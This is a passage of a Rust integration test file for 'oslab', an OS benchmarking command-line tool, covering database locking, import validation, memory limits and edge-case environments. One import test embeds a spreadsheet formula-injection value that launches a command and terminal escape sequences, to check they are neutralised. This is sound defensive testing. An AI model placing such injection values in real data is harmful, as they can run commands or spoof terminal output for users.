    stdout(&["run", "timer.rdtsc", "--quick", "--db", dbs]);
    let state = dir.path().join("state");
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .env("XDG_STATE_HOME", &state)
        .args(["run", "timer.rdtsc", "call.args", "--quick", "--db", dbs])
        .args(["--db-timeout", "1500ms"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Once the run is begun (its row is 'running'), another writer holds the store until the
    // run has given up.
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.busy_timeout(std::time::Duration::from_secs(10))
        .unwrap();
    let begun = std::time::Instant::now();
    while conn
        .query_row(
            "SELECT count(*) FROM runs WHERE status = 'running'",
            [],
            |r| r.get::<_, i64>(0),
        )
        .unwrap()
        == 0
    {
        assert!(begun.elapsed().as_secs() < 30, "the run never began");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    conn.execute_batch("BEGIN EXCLUSIVE").unwrap();
    let out = child.wait_with_output().unwrap();
    conn.execute_batch("ROLLBACK").unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("waiting for the store"), "{err}");
    // The results were printed, and kept in a file that imports once the store is free.
    assert!(String::from_utf8_lossy(&out.stdout).contains("call.args"));
    let file = err
        .split_whitespace()
        .find(|w| w.ends_with(".json:") || w.ends_with(".json"))
        .map(|w| w.trim_end_matches(':').to_string())
        .unwrap_or_else(|| panic!("no file named: {err}"));
    assert!(file.starts_with(state.to_str().unwrap()), "{file}");
    let imported = String::from_utf8(stdout(&["import", &file, "--db", dbs])).unwrap();
    let _ = imported;
    let runs = json(&stdout(&["runs", "--json", "--db", dbs]));
    assert!(runs.as_array().unwrap().len() >= 2, "{runs}");
}

#[test]
fn store_paths_that_cannot_be_used_fall_back_or_say_how_to_choose_one() {
    let _turn = shared();
    let dir = tempfile::tempdir().unwrap();
    // --db naming a directory is refused, saying what --db names.
    let e = fails(&["runs", "--db", dir.path().to_str().unwrap()], 1);
    assert!(e.contains("is a directory") && e.contains("--db"), "{e}");
    // Looking at a store that does not exist yet creates nothing.
    let db = dir.path().join("never.db");
    let e = fails(&["report", "latest", "--db", db.to_str().unwrap()], 1);
    assert!(e.contains("empty"), "{e}");
    stdout(&["runs", "--db", db.to_str().unwrap()]);
    assert!(!db.exists());
    // A user whose home does not exist: the run is stored in their private directory, and they
    // are told it does not outlive a reboot and how to choose a store.
    let homeless = |runtime: &Path| {
        let mut c = oslab();
        c.args(["run", "--quick", "timer.rdtsc"])
            .env_remove("OSLAB_DB")
            .env_remove("XDG_DATA_HOME")
            .env("HOME", "/nonexistent")
            .env("XDG_RUNTIME_DIR", runtime)
            .env("XDG_STATE_HOME", dir.path().join("state"));
        c
    };
    let runtime = dir.path().join("runtime");
    std::fs::create_dir(&runtime).unwrap();
    let out = homeless(&runtime).assert().success().get_output().clone();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("does not outlive a reboot") && said.contains("OSLAB_DB"),
        "{said}"
    );
    assert!(runtime.join("oslab/oslab.db").is_file());
    assert!(
        !Path::new("oslab").exists(),
        "nothing in the current directory"
    );
    // Another user's, or a world-writable, private directory is refused, not used.
    let open = dir.path().join("open");
    std::fs::create_dir_all(open.join("oslab")).unwrap();
    std::fs::set_permissions(
        open.join("oslab"),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let out = homeless(&open).assert().code(1).get_output().clone();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(
        e.contains("not a private directory") && e.contains("--db"),
        "{e}"
    );
    // A mistyped probe gets the nearest id.
    let e = fails(&["run", "sycall", "--db", db.to_str().unwrap()], 2);
    assert!(e.contains("did you mean \"syscall\"?"), "{e}");
}

/// A minimal valid document, as another machine would export it.
fn document(tags: Value) -> Value {
    serde_json::json!({
        "schema": "oslab.run/1",
        "run": {
            "id": 7, "started": "2026-01-01T00:00:00Z", "finished": "2026-01-01T00:00:01Z",
            "status": "complete", "oslab_version": "0.1.0", "command": "oslab run",
            "hostname": "far\u{1b}]0;owned\u{7}\r\u{202e}away", "quick": true, "wall_s": 1.0,
            "fingerprint": {"cpu_model": "x", "topology": {"caches": [], "nodes": []}},
            "environment": {"privileges": {"root": false, "cap_perfmon": false, "cap_sys_nice": false,
                "sched_fifo": false, "perf_event_paranoid": 2, "memlock_limit": null},
                "pmu": {"available": false, "reason": "none"}, "loadavg": 0.1, "runnable": 1,
                "numa_balancing": null, "isolation": [], "warnings": []},
            "tags": tags
        },
        "measurements": [
            {"probe": "syscall.getppid", "params": {}, "metric": "per_call", "unit": "ns",
             "status": "ok", "note": "\u{1b}[2J cleared",
             "summary": {"n": 3, "min": 1.0, "p25": 1.0, "median": 2.0, "p75": 3.0, "max": 3.0,
                         "mean": 2.0, "stddev": 1.0, "ci_low": 1.0, "ci_high": 3.0, "outliers": 0}}
        ]
    })
}

#[test]
fn outside_text_reaches_no_terminal_and_every_run_keeps_the_same_limits() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let write = |name: &str, doc: &Value| {
        let f = dir.path().join(name);
        std::fs::write(&f, doc.to_string()).unwrap();
        f.to_str().unwrap().to_string()
    };
    let good = write(
        "good.json",
        &document(serde_json::json!({"k": "=cmd|' /C calc'!A0\u{1b}[31m"})),
    );
    // Imported twice: stored once, and the second time says so.
    let first = oslab()
        .args(["import", &good, "--db", db])
        .assert()
        .success()
        .get_output()
        .clone();
    let said = String::from_utf8_lossy(&first.stderr);
    assert!(
        said.contains("as run 1") && !said.contains('\u{1b}') && !said.contains('\r'),
        "{said:?}"
    );
    assert!(
        said.contains("\\u{1b}") && said.contains("\\u{202e}"),
        "{said:?}"
    );
    let again = oslab()
        .args(["import", &good, "--db", db])
        .assert()
        .success()
        .get_output()
        .clone();
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(said.contains("already in the store as run 1"), "{said}");
    assert_eq!(stored_runs(Path::new(db)).len(), 1);
    // What the terminal shows of it holds no control character.
    for args in [
        vec!["runs"],
        vec!["show", "1", "--details"],
        vec!["show", "tag:k=x"],
    ] {
        let mut a = args.clone();
        a.extend(["--db", db]);
        let out = oslab().args(&a).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?}: {text:?}"
        );
    }
    // The limits `run` keeps are the ones import keeps.
    let long = format!("k={}", "v".repeat(1025));
    let e = fails(&["run", "timer.rdtsc", "--tag", &long, "--db", db], 2);
    assert!(
        e.contains("at most 1024 characters") && e.len() < 500,
        "{e}"
    );
    let mut many = vec!["run", "timer.rdtsc"];
    let tags: Vec<String> = (0..257).map(|i| format!("t{i}=v")).collect();
    for t in &tags {
        many.extend(["--tag", t]);
    }
    many.extend(["--db", db]);
    let e = fails(&many, 2);
    assert!(e.contains("at most 256"), "{e}");
    let bad_docs = [
        (
            "many tags",
            document(Value::Object(
                (0..257).map(|i| (format!("t{i}"), "v".into())).collect(),
            )),
        ),
        (
            "long tag",
            document(serde_json::json!({"k": "v".repeat(1025)})),
        ),
        ("not a date", {
            let mut d = document(serde_json::json!({}));
            d["run"]["started"] = "yesterday".into();
            d
        }),
        ("negative id", {
            let mut d = document(serde_json::json!({}));
            d["run"]["id"] = (-3).into();
            d
        }),
        ("min above max", {
            let mut d = document(serde_json::json!({}));
            d["measurements"][0]["summary"]["min"] = 9.0.into();
            d
        }),
        // Finite, in order, and beyond any measurement: its charts' ranges overflowed and the
        // report never ended.
        ("a figure beyond any measurement", {
            let mut d = document(serde_json::json!({}));
            for k in ["max", "ci_high", "p75"] {
                d["measurements"][0]["summary"][k] = 1e300.into();
            }
            d
        }),
    ];
    for (what, doc) in bad_docs {
        let f = write("bad.json", &doc);
        let e = fails(&["import", &f, "--db", db], 1);
        assert!(e.contains("Nothing was imported"), "{what}: {e}");
    }
    assert_eq!(stored_runs(Path::new(db)).len(), 1);
}

#[test]
fn runs_side_by_side_on_one_store_each_keep_every_probe_as_it_completes() {
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let runs: Vec<_> = (0..4)
        .map(|_| {
            std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
                .args(["run", "--quick", "timer.rdtsc", "timer.clock_gettime"])
                .args(["syscall.getppid", "loop.empty", "--db", db])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for r in runs {
        let out = r.wait_with_output().unwrap();
        let said = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{said}");
        // Before: 3 of 4 said `database is locked` and kept their probes in memory only.
        assert!(!said.contains("could not store"), "{said}");
    }
    let stored = stored_runs(Path::new(db));
    assert_eq!(stored.len(), 4);
    assert!(
        stored
            .iter()
            .all(|(_, status, n)| status == "complete" && *n > 0),
        "{stored:?}"
    );
}

#[test]
fn a_store_deleted_during_a_run_keeps_the_run_in_a_file_instead_of_saying_stored() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let state = dir.path().join("state");
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["activity", "--duration", "2s", "--db", db.to_str().unwrap()])
        .env("XDG_STATE_HOME", &state)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !db.exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    for f in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{f}", db.display()));
    }
    let out = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(!said.contains("stored as run"), "{said}");
    assert!(said.contains("deleted or replaced"), "{said}");
    let kept: Vec<_> = std::fs::read_dir(state.join("oslab/unsaved"))
        .unwrap()
        .collect();
    assert_eq!(kept.len(), 1, "{said}");
}

#[test]
fn messages_blame_what_is_true() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    // A temp dir from TMPDIR is TMPDIR's fault, not --temp-dir's; an empty TMPDIR is unset.
    let out = oslab()
        .args(["run", "faults.file", "--quick", "--db", db])
        .env("TMPDIR", "/no/such/dir")
        .assert()
        .code(2)
        .get_output()
        .clone();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(
        e.contains("TMPDIR /no/such/dir") && !e.contains("--temp-dir /no"),
        "{e}"
    );
    let out = oslab()
        .args(["run", "faults.file", "--quick", "--plan", "--db", db])
        .env("TMPDIR", "")
        .assert()
        .success()
        .get_output()
        .clone();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(!e.contains("--temp-dir"), "{e}");
    // Without HOME, nothing is made in the current directory.
    let cwd = dir.path().join("cwd");
    std::fs::create_dir(&cwd).unwrap();
    oslab()
        .args(["runs"])
        .env_remove("HOME")
        .env_remove("OSLAB_DB")
        .env_remove("XDG_DATA_HOME")
        .env("XDG_RUNTIME_DIR", dir.path())
        .current_dir(&cwd)
        .assert()
        .success();
    assert_eq!(std::fs::read_dir(&cwd).unwrap().count(), 0);
}

#[test]
fn every_manual_page_a_page_refers_to_exists() {
    let _turn = shared();
    let page = String::from_utf8(stdout(&["man", "cpuman", "simulate"])).unwrap();
    assert!(page.contains(".TH oslab-cpuman-simulate 1"), "{page}");
    // The sections a manual page has beyond --help, and a footer that names oslab.
    for section in [
        ".SH EXAMPLES",
        ".SH \"EXIT STATUS\"",
        ".SH ENVIRONMENT",
        "NO_COLOR",
    ] {
        assert!(page.contains(section), "{section}: {page}");
    }
    assert!(page.contains("\"oslab 0.1.0\""), "{page}");
    let run = String::from_utf8(stdout(&["man", "run"])).unwrap();
    assert!(run.contains("[\\fIPROBE\\-GLOB\\fR...]"), "{run}");
    let e = fails(&["man", "nope"], 2);
    assert!(e.contains("no manual page for `oslab nope`"), "{e}");
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing");
    let e = fails(&["man", "--dir", missing.to_str().unwrap()], 2);
    assert!(e.contains("no such directory"), "{e}");
    stdout(&["man", "--dir", dir.path().to_str().unwrap()]);
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.contains(&"oslab-run.1".to_string()), "{names:?}");
    // A page's SUBCOMMANDS section names pages like oslab\-run(1): each is there.
    for name in &names {
        let text = std::fs::read_to_string(dir.path().join(name)).unwrap();
        for referred in text
            .lines()
            .filter_map(|l| l.strip_suffix("(1)"))
            .filter(|l| l.starts_with("oslab"))
        {
            let file = format!("{}.1", referred.replace("\\-", "-"));
            assert!(names.contains(&file), "{name} refers to {file}");
        }
    }
}

/// A run exported from this store and imported back is recognised at once (the figures read
/// back from JSON are the same numbers to the last bit: they were 1 ulp off, and the first
/// import stored a duplicate).
#[test]
fn importing_an_export_of_a_stored_run_stores_nothing() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    oslab()
        .args([
            "run",
            "--quick",
            "timer.rdtsc",
            "syscall.getppid",
            "--db",
            db,
        ])
        .assert()
        .success();
    let file = dir.path().join("run.json");
    oslab()
        .args(["export", "-o", file.to_str().unwrap(), "--db", db])
        .assert()
        .success();
    let out = oslab()
        .args(["import", file.to_str().unwrap(), "--db", db])
        .assert()
        .success()
        .get_output()
        .clone();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("already in the store as run 1"), "{said}");
    assert_eq!(stored_runs(Path::new(db)).len(), 1);
}

/// An import reads one document at a time, element by element: its memory is about the file's
/// size and the run it holds, not the parsed tree of every file (a 278 MB export took 3.2x its
/// size, 876 MB, now 448 MB; two took 1.07 GB, now 0.59 GB).
#[test]
fn import_memory_stays_near_the_files_size() {
    let _turn = shared();
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    oslab()
        .args(["run", "--quick", "syscall.getppid", "--db", db])
        .assert()
        .success();
    let one = dir.path().join("one.json");
    oslab()
        .args(["export", "-o", one.to_str().unwrap(), "--db", db])
        .assert()
        .success();
    // The same run with its measurements repeated as repetitions, to 60 MB or more.
    let mut doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&one).unwrap()).unwrap();
    let ms = doc["measurements"].as_array().unwrap().clone();
    let each = serde_json::to_vec(&ms).unwrap().len().max(1);
    let copies = (60 << 20) / each + 1;
    let many: Vec<serde_json::Value> = (1..=copies)
        .flat_map(|k| {
            ms.iter().map(move |m| {
                let mut m = m.clone();
                m["repetition"] = k.into();
                m
            })
        })
        .collect();
    doc["measurements"] = many.into();
    let big = dir.path().join("big.json");
    std::fs::write(&big, serde_json::to_vec(&doc).unwrap()).unwrap();
    let size = std::fs::metadata(&big).unwrap().len() as f64;
    let fresh = dir.path().join("fresh.db");
    // Its data (heap and private mappings) limited to 2.2x the file and 48 MB: the parsed tree
    // of the whole document went past it and aborted.
    let limit = (2.2 * size + 48e6) as libc::rlim_t;
    let mut import = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"));
    import.args([
        "import",
        big.to_str().unwrap(),
        "--db",
        fresh.to_str().unwrap(),
    ]);
    // SAFETY: only setrlimit, async-signal-safe, between fork and exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut import, move || {
            let r = libc::rlimit {
                rlim_cur: limit,
                rlim_max: limit,
            };
            match libc::setrlimit(libc::RLIMIT_DATA, &r) {
                0 => Ok(()),
                _ => Err(std::io::Error::last_os_error()),
            }
        });
    }
    let out = import.output().unwrap();
    assert!(
        out.status.success(),
        "importing {:.0} MB within {:.0} MB of data: {:?} {}",
        size / 1e6,
        limit as f64 / 1e6,
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(stored_runs(&fresh).len(), 1);
}

/// What `show` puts first for a run: its first measurement (the probe's first metric).
fn main_figure(db: &str) -> Value {
    let run = json(&stdout(&["show", "latest", "--json", "--db", db]));
    run["measurements"][0].clone()
}

#[test]
fn every_experiments_main_figure_is_the_answer_and_not_failed() {
    let _turn = shared();
    let (_dir, db) = temp_db();
    let d = db.to_str().unwrap();
    // Each command's first figure is what a person decides from; none reads `failed` on a
    // machine doing its ordinary work (busy or not: noisy is allowed, failed is not).
    let commands: [(&[&str], &str); 3] = [
        (&["activity", "--duration", "500ms"], "lost_fraction"),
        (&["timeslice", "--duration", "500ms"], "slice"),
        (&["c2c", "--quick"], "one_way"),
    ];
    for (args, metric) in commands {
        let mut all = args.to_vec();
        all.extend(["--db", d]);
        stdout(&all);
        let m = main_figure(d);
        assert_eq!(m["metric"], metric, "{args:?}: {m}");
        assert_ne!(m["status"], "failed", "{args:?}: {m}");
        assert!(m["summary"]["median"].as_f64().is_some(), "{args:?}: {m}");
    }
}

#[test]
fn numbers_that_are_not_finite_or_in_range_are_usage_errors() {
    let (_dir, db) = temp_db();
    let d = db.to_str().unwrap();
    // `--time-scale inf` simulated 0 jobs and stored it; `--spread NaN` simulated NaN.
    for (args, said) in [
        (
            &["cpuman", "simulate", "--time-scale", "inf"][..],
            "above 0",
        ),
        (&["cpuman", "simulate", "--time-scale", "0"][..], "above 0"),
        (
            &["shuffle", "simulate", "--spread", "NaN"][..],
            "from 0 to 1000",
        ),
        (
            &["compare", "1", "2", "--threshold", "inf"][..],
            "between 0%",
        ),
        (
            &["fleet", "summary", "1", "--min-effect", "NaN"][..],
            "between 0%",
        ),
    ] {
        let mut all = args.to_vec();
        all.extend(["--db", d]);
        let e = fails(&all, 2);
        assert!(e.contains(said), "{args:?}: {e}");
    }
    // Refused before anything is measured or stored: no store was even made.
    assert!(!db.exists());
}

#[test]
fn an_output_path_that_cannot_be_written_is_refused_before_the_work() {
    // An unwritable --paraver failed cpuman after 11 s of jobs: nothing stored, nothing printed.
    let (dir, db) = temp_db();
    let d = db.to_str().unwrap();
    let missing = dir.path().join("no/such/dir/t");
    let m = missing.to_str().unwrap();
    let here = dir.path().to_str().unwrap();
    for args in [
        &["activity", "--duration", "5s", "--trace", m][..],
        &["timeslice", "--duration", "5s", "--trace", here][..],
        &[
            "cpuman",
            "run",
            "--workload",
            "W3",
            "--jobs",
            "1",
            "--paraver",
            m,
        ][..],
    ] {
        let mut all = args.to_vec();
        all.extend(["--db", d]);
        let t = std::time::Instant::now();
        let e = fails(&all, 2);
        assert!(
            t.elapsed() < Duration::from_secs(3),
            "{args:?}: {:?}",
            t.elapsed()
        );
        assert!(
            e.contains("--trace") || e.contains("--paraver"),
            "{args:?}: {e}"
        );
    }
    assert!(!db.exists(), "nothing was stored");
}

/// `oslab info --json` started by `wrapper` (its program and arguments); None, the test skipped
/// saying it `needs` it, where the wrapper cannot run here.
fn info_under(wrapper: &[&str], needs: &str) -> Option<serde_json::Value> {
    let out = std::process::Command::new(wrapper[0])
        .args(&wrapper[1..])
        .arg(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["info", "--json"])
        .output();
    let Some(out) = out.ok().filter(|o| o.status.success()) else {
        oslab_testkit::skip(&format!("needs {needs}"));
        return None;
    };
    Some(serde_json::from_slice(&out.stdout).unwrap())
}

#[test]
fn root_inside_a_user_namespace_is_not_called_root() {
    let Some(v) = info_under(
        &["unshare", "-Ur"],
        "unshare -Ur (util-linux, user namespaces allowed)",
    ) else {
        return;
    };
    let p = &v["environment"]["privileges"];
    assert_eq!(p["user_namespace"], true, "{p}");
    assert_eq!(p["root"], false, "{p}");
    assert_eq!(p["cap_perfmon"], false, "{p}");
}

#[test]
fn a_store_path_that_links_to_nothing_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("chosen-by-someone-else.db");
    let link = dir.path().join("oslab.db");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let e = fails(
        &[
            "run",
            "--quick",
            "timer.rdtsc",
            "--db",
            link.to_str().unwrap(),
        ],
        1,
    );
    assert!(
        e.contains("symbolic link") && e.contains("does not exist"),
        "{e}"
    );
    assert!(
        !target.exists(),
        "the store was created where the link points"
    );
}

#[test]
fn info_says_what_the_process_may_use_and_the_memory_pools() {
    let Some(v) = info_under(&["taskset", "-c", "0"], "taskset (util-linux)") else {
        return;
    };
    let limits = &v["environment"]["limits"];
    let online = std::fs::read_to_string("/sys/devices/system/cpu/online").unwrap();
    if online.trim() != "0" {
        let cpuset = limits["cpuset"].as_str().unwrap_or_default();
        assert!(cpuset.starts_with("cpus 0 of "), "{limits}");
    }
    if std::path::Path::new("/sys/kernel/mm/hugepages").is_dir() {
        assert!(
            !limits["hugepages"].as_array().unwrap().is_empty(),
            "{limits}"
        );
    }
    // Unrestricted, nothing is said of a cpuset.
    let v: serde_json::Value = serde_json::from_slice(&stdout(&["info", "--json"])).unwrap();
    let isolated = std::fs::read_to_string("/sys/devices/system/cpu/isolated").unwrap_or_default();
    if isolated.trim().is_empty() && oslab_os::affinity::get_affinity(0).unwrap().len() > 1 {
        assert!(
            v["environment"]["limits"]["cpuset"].is_null(),
            "{}",
            v["environment"]
        );
    }
}

/// What `oslab ARGS` prints on a terminal 80 columns wide.
fn text_at_80(args: &[&str]) -> String {
    let out = oslab().args(args).env("COLUMNS", "80").output().unwrap();
    assert!(out.status.success());
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn an_odd_environment_gets_a_sensible_answer() {
    let (dir, db) = temp_db();
    let db_s = db.to_str().unwrap();
    stdout(&["run", "--quick", "timer.rdtsc", "--db", db_s]);
    let lines_at = |columns: &str| {
        let out = oslab()
            .args(["show", "latest", "--db", db_s])
            .env("COLUMNS", columns)
            .output()
            .unwrap();
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stdout).lines().count()
    };
    // COLUMNS=0 or 1 once laid out a word a line (711 lines for 26).
    let normal = lines_at("80");
    for odd in ["0", "1"] {
        let n = lines_at(odd);
        assert!(n <= 3 * normal, "COLUMNS={odd}: {n} lines against {normal}");
    }
    // An empty OSLAB_DB is an unset one, not "a value is required".
    let out = oslab()
        .args(["runs"])
        .env("OSLAB_DB", "")
        .env("XDG_DATA_HOME", dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A relative XDG_DATA_HOME is ignored (the XDG specification): nothing lands in the
    // current directory.
    let cwd = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    oslab()
        .args(["run", "--quick", "timer.rdtsc"])
        .current_dir(cwd.path())
        .env_remove("OSLAB_DB")
        .env("XDG_DATA_HOME", "relative")
        .env("HOME", home.path())
        .assert()
        .success();
    assert_eq!(std::fs::read_dir(cwd.path()).unwrap().count(), 0);
    assert!(home.path().join(".local/share/oslab/oslab.db").exists());
    // A 300-character tag once drew the list of runs' rule across three screens.
    let tag = format!("k={}", "v".repeat(300));
    stdout(&["run", "--quick", "timer.rdtsc", "--tag", &tag, "--db", db_s]);
    let listed = text_at_80(&["runs", "--db", db_s]);
    let wide: Vec<&str> = listed.lines().filter(|l| l.chars().count() > 80).collect();
    assert!(wide.is_empty() && listed.contains("k=vvv"), "{listed}");
    // A small stack limit once overflowed the main thread (abort, exit 134).
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -s 64 && exec '{}' run --quick timer.rdtsc --db '{db_s}'",
            assert_cmd::cargo::cargo_bin("oslab").display()
        ))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Standard output that cannot be written is named as such.
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["show", "latest", "--db", db_s])
        .stdout(full)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("standard output"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Runs `cmd` to its end; its peak resident memory in bytes, and whether it succeeded.
#[allow(clippy::zombie_processes)] // reaped by wait4, which also reads its peak
fn peak_memory(cmd: &mut std::process::Command) -> (u64, bool) {
    let child = cmd
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut status = 0;
    // SAFETY: waiting for our own child, with out-pointers to locals.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let waited = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
    assert_eq!(waited, child.id() as i32);
    (
        usage.ru_maxrss as u64 * 1024,
        libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
    )
}

#[test]
fn a_large_import_and_its_show_take_at_most_four_times_the_files_size() {
    // 515 MB of 10^6 measurements once peaked at 6.8 GB to import (13x), 2.7 GB to show: every
    // measurement was copied as a JSON value to look for the run in the store, and shown twice.
    let (dir, db) = temp_db();
    let db_s = db.to_str().unwrap();
    stdout(&["run", "--quick", "timer.rdtsc", "--db", db_s]);
    let one = json(&stdout(&["export", "latest", "--db", db_s]));
    let mut row = one["measurements"][0].clone();
    row["samples"] = Value::from(row["samples"].as_array().unwrap()[..12].to_vec());
    row["summary"]["n"] = Value::from(12);
    // Written row by row: this process stays small (a child's peak counts the pages it
    // started with).
    let file = dir.path().join("large.json");
    {
        use std::io::Write;
        let mut head = one.clone();
        head["measurements"] = Value::from(Vec::<Value>::new());
        let head = serde_json::to_string(&head).unwrap();
        let (before, after) = head.split_once("\"measurements\":[]").unwrap();
        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
        write!(f, "{before}\"measurements\":[").unwrap();
        for i in 0..40_000 {
            row["params"]["i"] = Value::from(i);
            let sep = if i == 0 { "" } else { "," };
            write!(f, "{sep}{row}").unwrap();
        }
        write!(f, "]{after}").unwrap();
    }
    let size = std::fs::metadata(&file).unwrap().len();
    let big = dir.path().join("big.db");
    let bin = assert_cmd::cargo::cargo_bin("oslab");
    let oslab_at = |args: &[&std::ffi::OsStr]| {
        let mut c = std::process::Command::new(&bin);
        c.args(args).arg("--db").arg(&big);
        c
    };
    // What a child's peak holds before it does anything: this process's pages it started with,
    // and oslab's own.
    let (start, _) = peak_memory(&mut oslab_at(&["runs".as_ref()]));
    for (what, args) in [
        ("import", vec!["import".as_ref(), file.as_os_str()]),
        ("import again", vec!["import".as_ref(), file.as_os_str()]),
        ("show", vec!["show".as_ref(), "latest".as_ref()]),
        (
            "show --json",
            vec!["show".as_ref(), "latest".as_ref(), "--json".as_ref()],
        ),
    ] {
        let (peak, ok) = peak_memory(&mut oslab_at(&args));
        assert!(ok, "{what} failed");
        assert!(
            peak.saturating_sub(start) <= 4 * size,
            "{what}: {} MB at its peak ({} MB before any work) for a file of {} MB",
            peak >> 20,
            start >> 20,
            size >> 20
        );
    }
}

#[test]
fn a_copy_whose_samples_changed_is_imported_as_another_run() {
    // Samples were left out of the comparison: an edited re-export was "already in the store".
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let mut doc = document(serde_json::json!({"k": "v"}));
    doc["measurements"][0]["samples"] = serde_json::json!([1.0, 2.0, 3.0]);
    let file = dir.path().join("doc.json");
    let import = |doc: &Value| {
        std::fs::write(&file, doc.to_string()).unwrap();
        let out = oslab()
            .args(["import", file.to_str().unwrap(), "--db", db])
            .assert()
            .success()
            .get_output()
            .clone();
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    assert!(import(&doc).contains("as run 1"));
    assert!(import(&doc).contains("already in the store as run 1"));
    doc["measurements"][0]["samples"] = serde_json::json!([1.0, 2.0, 3.5]);
    let said = import(&doc);
    assert!(
        said.contains("imported") && said.contains("as run 2"),
        "{said}"
    );
}

#[test]
fn an_import_says_what_it_does_not_know_and_refuses_an_end_before_the_start() {
    let (dir, db) = temp_db();
    let db = db.to_str().unwrap();
    let file = dir.path().join("doc.json");
    // Imports `text`: its exit and what it said.
    let import = |text: &str| {
        std::fs::write(&file, text).unwrap();
        let out = oslab()
            .args(["import", file.to_str().unwrap(), "--db", db])
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let mut doc = document(serde_json::json!({}));
    doc["measurements"][0]["probe"] = Value::from("no.such.probe");
    let (code, said) = import(&doc.to_string());
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("does not know (no.such.probe)"), "{said}");
    let mut doc = document(serde_json::json!({}));
    doc["run"]["finished"] = Value::from("2025-12-31T23:59:59Z");
    let (code, said) = import(&doc.to_string());
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("before it started"), "{said}");
    // A key named twice in one object (a Value would keep the last, silently).
    let doc = document(serde_json::json!({})).to_string();
    for twice in [
        doc.replacen(
            "\"status\":\"ok\"",
            "\"status\":\"ok\",\"status\":\"failed\"",
            1,
        ),
        doc.replacen(
            "\"measurements\":",
            "\"measurements\":[],\"measurements\":",
            1,
        ),
    ] {
        assert_ne!(twice, doc);
        let (code, said) = import(&twice);
        assert_eq!(code, Some(1), "{said}");
        assert!(said.contains("appears twice"), "{said}");
    }
    assert_eq!(stored_runs(Path::new(db)).len(), 1);
}

#[test]
fn a_stop_of_oslab_is_called_a_stop_not_contention() {
    // A 10 s SIGSTOP read as `contention`.
    let _turn = exclusive();
    let (_dir, db) = temp_db();
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("oslab"))
        .args(["run", "--quick", "switch.thread.pipe", "--db"])
        .arg(&db)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let _child = KillOnDrop(child);
